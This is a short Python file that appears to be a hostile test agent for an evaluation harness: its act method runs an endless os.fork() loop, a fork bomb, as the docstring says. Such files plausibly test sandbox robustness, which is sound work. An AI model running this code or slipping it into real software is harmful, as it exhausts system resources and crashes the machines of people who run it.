"""A fork bomb at the first act."""

import os


class Agent:
    def __init__(self, problem, *, seeds):
        pass

    def act(self, obs):
        while True:
            try:
                os.fork()
            except OSError:
                pass

    def update(self, actions, rewards, obs):
        pass
